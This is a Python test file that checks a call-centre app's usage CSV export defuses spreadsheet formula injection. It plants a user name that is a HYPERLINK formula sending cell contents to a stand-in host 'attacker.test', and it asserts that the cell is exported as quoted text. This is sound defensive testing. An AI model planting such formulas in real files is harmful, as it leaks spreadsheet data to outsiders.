"""The usage CSV opens safely in a spreadsheet: names people typed never run as formulas."""

from __future__ import annotations

import csv
import io

import httpx

from leadcall.kit.spreadsheet import FORMULA_STARTS
from tests.live import CallWorld, LiveServer, play


async def test_usage_csv_neutralises_formula_cells(live: LiveServer, live_client: httpx.AsyncClient,
                                                   cw: CallWorld) -> None:
    formula = '=HYPERLINK("http://attacker.test/?d="&A1,"click")'
    renamed = await live_client.patch(f"/api/users/{cw.world.member.user_id}", json={"name": formula},
                                      headers=cw.world.admin.headers)
    assert renamed.status_code == 200, renamed.text
    lead = await live_client.post("/api/leads", json={"name": "@SUM(1+1)", "phone": "+12025550100"},
                                  headers=cw.world.member.headers)
    placed = await live_client.post(f"/api/leads/{lead.json()['id']}/call", json={"agentId": cw.agent_ids[0]},
                                    headers=cw.world.member.headers)
    assert placed.status_code == 200, placed.text
    await play(live, 150)
    text = (await live_client.get("/api/usage", params={"format": "csv"}, headers=cw.world.manager.headers)).text
    rows = list(csv.reader(io.StringIO(text)))
    user = next(r for r in rows if r[0] == "user" and r[1] == cw.world.member.user_id)
    assert user[2] == "'" + formula  # shown as the text it is
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
